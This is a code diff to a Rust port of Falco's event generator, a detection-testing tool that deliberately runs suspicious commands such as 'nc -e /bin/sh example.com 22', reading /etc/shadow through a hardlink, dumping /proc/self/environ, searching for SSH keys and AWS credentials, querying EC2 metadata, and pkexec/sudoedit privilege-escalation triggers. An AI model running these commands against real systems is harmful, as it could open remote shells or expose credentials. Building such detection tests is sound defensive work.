@@ -464,8 +464,14 @@ fn look_path(prog: &str) -> Option<PathBuf> {
         .find(|p| fs::metadata(p).is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0))
 }
 
-fn need(prog: &str) -> Result<PathBuf, Outcome> {
-    look_path(prog).ok_or_else(|| Outcome::Skipped(format!("{prog} not found in PATH")))
+/// `exec.Command(prog)`: the program found in PATH, `argv[0]` the name as given (what
+/// `proc.exe` shows); skipped when it is missing.
+fn need(prog: &str) -> Result<Command, Outcome> {
+    let path =
+        look_path(prog).ok_or_else(|| Outcome::Skipped(format!("{prog} not found in PATH")))?;
+    let mut cmd = Command::new(path);
+    cmd.arg0(prog);
+    Ok(cmd)
 }
 
 macro_rules! need {
@@ -621,7 +627,7 @@ fn adding_ssh_keys_to_authorized_keys() -> Res {
 /// arguments (it calls unshare(0), then starts a shell that finds its standard input at EOF).
 fn change_namespace_privileges_via_unshare() -> Res {
     need!("sh");
-    let unshare = need!("unshare");
+    let mut unshare = need!("unshare");
     let out = Command::new("sh")
         .args([
             "-c",
@@ -636,7 +642,7 @@ fn change_namespace_privileges_via_unshare() -> Res {
             "CAP_SYS_ADMIN is effective (privileged container)".into(),
         ));
     }
-    run_limit(&mut Command::new(unshare), Duration::from_secs(2))?;
+    run_limit(&mut unshare, Duration::from_secs(2))?;
     Ok(Outcome::Done)
 }
 
@@ -666,11 +672,8 @@ fn clear_log_activities() -> Res {
 
 /// `nc 169.254.169.254 80` with a 1 s limit; its failure is ignored.
 fn contact_ec2_instance_metadata() -> Res {
-    let nc = need!("nc");
-    run_limit(
-        Command::new(nc).args(["169.254.169.254", "80"]),
-        Duration::from_secs(1),
-    )?;
+    let mut nc = need!("nc");
+    run_limit(nc.args(["169.254.169.254", "80"]), Duration::from_secs(1))?;
     Ok(Outcome::Done)
 }
 
@@ -714,14 +717,10 @@ fn create_files_below_dev() -> Res {
 
 /// `ln -v /etc/shadow <tmpdir>/shadow_link`, then reads the file through the link.
 fn create_hardlink_over_sensitive_files() -> Res {
-    let ln = need!("ln");
+    let mut ln = need!("ln");
     let dir = action_dir("CreateHardlinkOverSensitiveFiles")?;
     let link = dir.join("shadow_link");
-    let r = run_accepting(
-        Command::new(ln).arg("-v").arg("/etc/shadow").arg(&link),
-        &[],
-    )
-    .and_then(|o| {
+    let r = run_accepting(ln.arg("-v").arg("/etc/shadow").arg(&link), &[]).and_then(|o| {
         fs::read(&link)?;
         Ok(o)
     });
@@ -741,10 +740,10 @@ fn create_hidden_files_or_directories() -> Res {
 
 /// `ln -s /etc <tmpdir>/etc_link`, then lists the directory through the link.
 fn create_symlink_over_sensitive_files() -> Res {
-    let ln = need!("ln");
+    let mut ln = need!("ln");
     let dir = action_dir("CreateSymlinkOverSensitiveFiles")?;
     let link = dir.join("etc_link");
-    let r = run_accepting(Command::new(ln).arg("-s").arg("/etc").arg(&link), &[]).and_then(|o| {
+    let r = run_accepting(ln.arg("-s").arg("/etc").arg(&link), &[]).and_then(|o| {
         fs::read_dir(&link)?.count();
         Ok(o)
     });
@@ -769,7 +768,7 @@ fn debugfs_launched_in_privileged_container() -> Res {
         return Ok(Outcome::Skipped("CAP_SYS_ADMIN is not effective".into()));
     }
     let debugfs = need!("debugfs");
-    let mut cmd = Command::new(debugfs);
+    let mut cmd = debugfs;
     cmd.arg("-V");
     in_new_namespaces(&mut cmd);
     run(&mut cmd)?;
@@ -794,10 +793,9 @@ fn in_new_namespaces(cmd: &mut Command) {
 /// `echo ZGVjb2RlZF9ieV9ldmVudC1nZW5lcmF0b3I= | base64 -d` executed directly (no shell): the
 /// command line carries the base64 string and `base64 -d`; nothing is decoded.
 fn decoding_payload_in_container() -> Res {
-    let echo = need!("echo");
+    let mut echo = need!("echo");
     run_accepting(
-        Command::new(echo)
-            .args(["ZGVjb2RlZF9ieV9ldmVudC1nZW5lcmF0b3I=", "|", "base64", "-d"])
+        echo.args(["ZGVjb2RlZF9ieV9ldmVudC1nZW5lcmF0b3I=", "|", "base64", "-d"])
             .stdout(Stdio::null()),
         &[],
     )
@@ -824,10 +822,9 @@ fn delete_or_rename_shell_history() -> Res {
 
 /// `echo "-o stratum+tcp" "-u user" "-p pass"`: the Stratum URL scheme on a command line.
 fn detect_crypto_miners_stratum() -> Res {
-    let echo = need!("echo");
+    let mut echo = need!("echo");
     run_accepting(
-        Command::new(echo)
-            .args(["-o stratum+tcp", "-u user", "-p pass"])
+        echo.args(["-o stratum+tcp", "-u user", "-p pass"])
             .stdout(Stdio::null()),
         &[],
     )
@@ -860,9 +857,9 @@ fn directory_traversal_monitored_file_read() -> Res {
 
 /// `ssh user@example.com -p 443` (5 s limit upstream); its result is ignored.
 fn disallowed_ssh_connection() -> Res {
-    let ssh = need!("ssh");
+    let mut ssh = need!("ssh");
     run_limit(
-        Command::new(ssh).args(["user@example.com", "-p", "443"]),
+        ssh.args(["user@example.com", "-p", "443"]),
         Duration::from_secs(5),
     )?;
     Ok(Outcome::Done)
@@ -873,7 +870,9 @@ fn disallowed_ssh_connection() -> Res {
 /// signal: its exit status is not checked (busybox's `ls` is busybox, which answers a name it
 /// does not know with exit 127).
 fn drop_and_execute_new_binary() -> Res {
-    let ls = need!("ls");
+    let Some(ls) = look_path("ls") else {
+        return Ok(Outcome::Skipped("ls not found in PATH".into()));
+    };
     let bytes = fs::read(&ls)?;
     let p = PathBuf::from(format!(
         "/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-{}",
@@ -935,14 +934,10 @@ fn fileless_execution_via_memfd_create() -> Res {
 
 /// `find $TMPDIR -maxdepth 1 -iname .aws/credentials` (finds nothing).
 fn find_aws_credentials() -> Res {
-    let find = need!("find");
+    let mut find = need!("find");
     run_accepting(
-        Command::new(find).arg(std::env::temp_dir()).args([
-            "-maxdepth",
-            "1",
-            "-iname",
-            ".aws/credentials",
-        ]),
+        find.arg(std::env::temp_dir())
+            .args(["-maxdepth", "1", "-iname", ".aws/credentials"]),
         &[],
     )
 }
@@ -1015,7 +1010,7 @@ fn helper_java_class_file() -> Res {
 /// temporary directory and executed.
 fn kubernetes_client_tool() -> Res {
     if let Some(k) = look_path("kubectl") {
-        run(&mut Command::new(k))?;
+        run(Command::new(k).arg0("kubectl"))?;
         return Ok(Outcome::Done);
     }
     let dir = action_dir("KubernetesClientToolLaunchedInContainer")?;
@@ -1036,20 +1031,17 @@ fn kubernetes_client_tool() -> Res {
 
 /// `wget -V`; a failure is ignored.
 fn launch_ingress_remote_file_copy() -> Res {
-    let wget = need!("wget");
-    run_limit(
-        Command::new(wget).arg("-V").stderr(Stdio::null()),
-        Duration::from_secs(2),
-    )?;
+    let mut wget = need!("wget");
+    run_limit(wget.arg("-V").stderr(Stdio::null()), Duration::from_secs(2))?;
     Ok(Outcome::Done)
 }
 
 /// `apk version`, or `apt-get --version` without apk; skipped without either.
 fn launch_package_management() -> Res {
     if let Some(apk) = look_path("apk") {
-        run(Command::new(apk).arg("version"))?;
+        run(Command::new(apk).arg0("apk").arg("version"))?;
     } else if let Some(apt) = look_path("apt-get") {
-        run(Command::new(apt).arg("--version"))?;
+        run(Command::new(apt).arg0("apt-get").arg("--version"))?;
     } else {
         return Ok(Outcome::Skipped("neither apk nor apt-get in PATH".into()));
     }
@@ -1058,28 +1050,22 @@ fn launch_package_management() -> Res {
 
 /// `scp` with no arguments; its failure is ignored.
 fn launch_remote_file_copy() -> Res {
-    let scp = need!("scp");
-    run(&mut Command::new(scp))?;
+    let mut scp = need!("scp");
+    run(&mut scp)?;
     Ok(Outcome::Done)
 }
 
 /// `nmap -sn 192.168.1.0/24` with a 1 s limit; failure ignored.
 fn launch_network_tool_in_container() -> Res {
-    let nmap = need!("nmap");
-    run_limit(
-        Command::new(nmap).args(["-sn", "192.168.1.0/24"]),
-        Duration::from_secs(1),
-    )?;
+    let mut nmap = need!("nmap");
+    run_limit(nmap.args(["-sn", "192.168.1.0/24"]), Duration::from_secs(1))?;
     Ok(Outcome::Done)
 }
 
 /// `nmap -sn 172.17.0.1/32` with a 1 s limit; failure ignored (host only).
 fn launch_network_tool_on_host() -> Res {
-    let nmap = need!("nmap");
-    run_limit(
-        Command::new(nmap).args(["-sn", "172.17.0.1/32"]),
-        Duration::from_secs(1),
-    )?;
+    let mut nmap = need!("nmap");
+    run_limit(nmap.args(["-sn", "172.17.0.1/32"]), Duration::from_secs(1))?;
     Ok(Outcome::Done)
 }
 
@@ -1147,7 +1133,7 @@ fn mount_launched_in_privileged_container() -> Res {
         return Ok(Outcome::Skipped("CAP_SYS_ADMIN is not effective".into()));
     }
     let mount = need!("mount");
-    let mut cmd = Command::new(mount);
+    let mut cmd = mount;
     cmd.arg("-o").stderr(Stdio::null());
     in_new_namespaces(&mut cmd);
     run(&mut cmd)?;
@@ -1156,9 +1142,9 @@ fn mount_launched_in_privileged_container() -> Res {
 
 /// `nc -e /bin/sh example.com 22` with a 1 s limit; failure ignored.
 fn netcat_remote_code_execution() -> Res {
-    let nc = need!("nc");
+    let mut nc = need!("nc");
     run_limit(
-        Command::new(nc).args(["-e", "/bin/sh", "example.com", "22"]),
+        nc.args(["-e", "/bin/sh", "example.com", "22"]),
         Duration::from_secs(1),
     )?;
     Ok(Outcome::Done)
@@ -1200,8 +1186,8 @@ fn as_daemon(cmd: &mut Command) -> Result<&mut Command, Fail> {
 
 /// `pkexec` with no arguments as `daemon`; exit 127 (patched pkexec) is a skip.
 fn polkit_cve_2021_4034() -> Res {
-    let pkexec = need!("pkexec");
-    let st = run(as_daemon(&mut Command::new(pkexec))?)?;
+    let mut pkexec = need!("pkexec");
+    let st = run(as_daemon(&mut pkexec)?)?;
     match st.code() {
         Some(127) => Ok(Outcome::Skipped("pkexec exited 127 (patched)".into())),
         _ => Ok(Outcome::Done),
@@ -1227,10 +1213,9 @@ fn glibc_tunables() -> Res {
 /// `curl http://example.com` with HTTP_PROXY="http://my.http.proxy.com " (trailing space);
 /// curl's failure is the action's.
 fn program_run_with_http_proxy_env() -> Res {
-    let curl = need!("curl");
+    let mut curl = need!("curl");
     run_accepting(
-        Command::new(curl)
-            .arg("http://example.com")
+        curl.arg("http://example.com")
             .env("HTTP_PROXY", "http://my.http.proxy.com "),
         &[],
     )
@@ -1240,7 +1225,7 @@ fn program_run_with_http_proxy_env() -> Res {
 /// killed and reaped.
 fn ptrace_anti_debug_attempt() -> Res {
     let sleep = need!("sleep");
-    let mut cmd = Command::new(sleep);
+    let mut cmd = sleep;
     cmd.arg("3600").stdin(Stdio::null());
     #[expect(unsafe_code, reason = "pre_exec: the forked child asks to be traced")]
     // SAFETY: the closure runs in the forked child before exec and only makes the ptrace
@@ -1256,11 +1241,8 @@ fn ptrace_anti_debug_attempt() -> Res {
 
 /// `sleep 3600`, ptrace(PTRACE_ATTACH) to it, detach, kill, reap.
 fn ptrace_attached_to_process() -> Res {
-    let sleep = need!("sleep");
-    let mut child = Command::new(sleep)
-        .arg("3600")
-        .stdin(Stdio::null())
-        .spawn()?;
+    let mut sleep = need!("sleep");
+    let mut child = sleep.arg("3600").stdin(Stdio::null()).spawn()?;
     let pid = Pid::from_raw(i32::try_from(child.id()).map_err(|e| Fail(e.to_string()))?);
     let r = nix::sys::ptrace::attach(pid).and_then(|()| {
         nix::sys::wait::waitpid(pid, Some(nix::sys::wait::WaitPidFlag::__WALL))?;
@@ -1274,13 +1256,8 @@ fn ptrace_attached_to_process() -> Res {
 
 /// `cat /proc/self/environ`.
 fn read_environment_from_proc_files() -> Res {
-    let cat = need!("cat");
-    run_accepting(
-        Command::new(cat)
-            .arg("/proc/self/environ")
-            .stdout(Stdio::null()),
-        &[],
-    )
+    let mut cat = need!("cat");
+    run_accepting(cat.arg("/proc/self/environ").stdout(Stdio::null()), &[])
 }
 
 /// A symlink `httpd` to this binary, executed; 6 s after its start it opens /etc/shadow
@@ -1335,14 +1312,14 @@ fn read_ssh_information() -> Res {
 
 /// A temporary file with some bytes, then `shred -u <file>`.
 fn remove_bulk_data_from_disk() -> Res {
-    let shred = need!("shred");
+    let mut shred = need!("shred");
     let (mut f, p) = create_temp(
         &std::env::temp_dir(),
         "falco-event-generator-syscall-RemoveBulkDataFromDisk-",
     )?;
     f.write_all(b"bulk data written by falco-event-generator\n")?;
     drop(f);
-    let r = run_accepting(Command::new(shred).arg("-u").arg(&p), &[]);
+    let r = run_accepting(shred.arg("-u").arg(&p), &[]);
     let _ = fs::remove_file(&p);
     r
 }
@@ -1359,16 +1336,15 @@ fn helper_run_shell() -> Res {
 
 /// `crontab -l`; exit 1 (no crontab) is accepted.
 fn schedule_cron_jobs() -> Res {
-    let crontab = need!("crontab");
-    run_accepting(Command::new(crontab).arg("-l").stderr(Stdio::null()), &[1])
+    let mut crontab = need!("crontab");
+    run_accepting(crontab.arg("-l").stderr(Stdio::null()), &[1])
 }
 
 /// `find $TMPDIR -maxdepth 1 -iname id_rsa` (finds nothing).
 fn search_private_keys_or_passwords() -> Res {
-    let find = need!("find");
+    let mut find = need!("find");
     run_accepting(
-        Command::new(find)
-            .arg(std::env::temp_dir())
+        find.arg(std::env::temp_dir())
             .args(["-maxdepth", "1", "-iname", "id_rsa"]),
         &[],
     )
@@ -1376,23 +1352,21 @@ fn search_private_keys_or_passwords() -> Res {
 
 /// A temporary file, `chmod u+s <file>`, removed.
 fn set_setuid_or_setgid_bit() -> Res {
-    let chmod = need!("chmod");
+    let mut chmod = need!("chmod");
     let (f, p) = create_temp(
         &std::env::temp_dir(),
         "falco-event-generator-syscall-SetSetuidOrSetgidBit-",
     )?;
     drop(f);
-    let r = run_accepting(Command::new(chmod).arg("u+s").arg(&p), &[]);
+    let r = run_accepting(chmod.arg("u+s").arg(&p), &[]);
     let _ = fs::remove_file(&p);
     r
 }
 
 /// `sudoedit -u daemon -s 'ls\'` as `daemon`; exit 1 (patched sudo) is a skip.
 fn sudo_potential_privilege_escalation() -> Res {
-    let sudoedit = need!("sudoedit");
-    let st = run(as_daemon(
-        Command::new(sudoedit).args(["-u", "daemon", "-s", "ls\\"]),
-    )?)?;
+    let mut sudoedit = need!("sudoedit");
+    let st = run(as_daemon(sudoedit.args(["-u", "daemon", "-s", "ls\\"]))?)?;
     match st.code() {
         Some(1) => Ok(Outcome::Skipped("sudoedit exited 1 (patched)".into())),
         _ => Ok(Outcome::Done),
@@ -1431,11 +1405,8 @@ fn system_user_interactive() -> Res {
 
 /// `nc -u example.com 22` with a 1 s limit; failure ignored.
 fn unexpected_udp_traffic() -> Res {
-    let nc = need!("nc");
-    run_limit(
-        Command::new(nc).args(["-u", "example.com", "22"]),
-        Duration::from_secs(1),
-    )?;
+    let mut nc = need!("nc");
+    run_limit(nc.args(["-u", "example.com", "22"]), Duration::from_secs(1))?;
     Ok(Outcome::Done)
 }
 
